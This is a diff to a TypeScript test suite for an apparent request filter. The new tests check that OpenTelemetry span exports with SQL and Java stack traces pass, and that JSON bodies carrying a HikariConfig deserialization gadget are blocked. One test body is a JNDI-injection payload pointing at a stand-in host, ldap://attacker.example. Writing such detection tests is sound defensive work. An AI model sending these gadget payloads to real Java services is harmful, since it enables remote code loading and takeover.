@@ -100,3 +100,29 @@ describe("argv lists in Kubernetes objects", () => {
     expect(verdict(kube(body)).blocked).toBe(true);
   });
 });
+
+// OTLP/JSON exports: spans with SQL statements, logs with Java stack traces (generated classes print `(File.java)`).
+const attr = (key: string, value: string) => ({ key, value: { stringValue: value } });
+const otlp = (attrs: { key: string; value: { stringValue: string } }[]): Req => ({
+  method: "POST", path: "/v1/traces", headers: [["host", "otel-collector.observability"], ["content-type", "application/json"]],
+  body: JSON.stringify({ resourceSpans: [{ resource: { attributes: [attr("service.name", "orders"), attr("k8s.pod.name", "orders-7d9f-abc")] }, scopeSpans: [{ scope: { name: "io.opentelemetry.jdbc" }, spans: [{ traceId: "5b8efff798038103d269b633813fc60c", spanId: "eee19b7ec3c1b174", name: "SELECT orders", kind: 3, attributes: attrs }] }] }] }),
+});
+const OTLP = [
+  [attr("db.system", "postgresql"), attr("db.statement", "SELECT * FROM users WHERE id = ?"), attr("code.namespace", "com.example.UserRepository"), attr("thread.name", "http-nio-8080-exec-1")],
+  [attr("db.system", "postgresql"), attr("db.statement", "SELECT o.id, SUM(i.price) FROM orders o JOIN items i ON i.order_id = o.id WHERE o.user_id = $1 GROUP BY o.id")],
+  [attr("exception.type", "java.sql.SQLSyntaxErrorException"), attr("exception.stacktrace", "java.sql.SQLSyntaxErrorException: bad SQL\n\tat com.mysql.cj.jdbc.ClientPreparedStatement.executeQuery(ClientPreparedStatement.java:1009)\n\tat com.zaxxer.hikari.pool.HikariProxyPreparedStatement.executeQuery(HikariProxyPreparedStatement.java)\n\tat com.example.OrderRepository.find(OrderRepository.java:42)")],
+];
+
+describe("OpenTelemetry exports", () => {
+  it.each(OTLP.map((a, i) => [i, a] as const))("passes: span %i", (_, attrs) => {
+    const v = verdict(otlp(attrs));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    [{ "@type": "com.zaxxer.hikari.HikariConfig", metricRegistry: "ldap://attacker.example/a" }],
+    [{ x: "com.zaxxer.hikari.HikariConfig" }],
+    [{ x: "com.zaxxer.hikari.HikariConfig.setMetricRegistry(\"ldap://a.example/x\")" }],
+  ])("blocks the gadget outside a frame: %j", (body) => {
+    expect(verdict(kube(body)).blocked).toBe(true);
+  });
+});
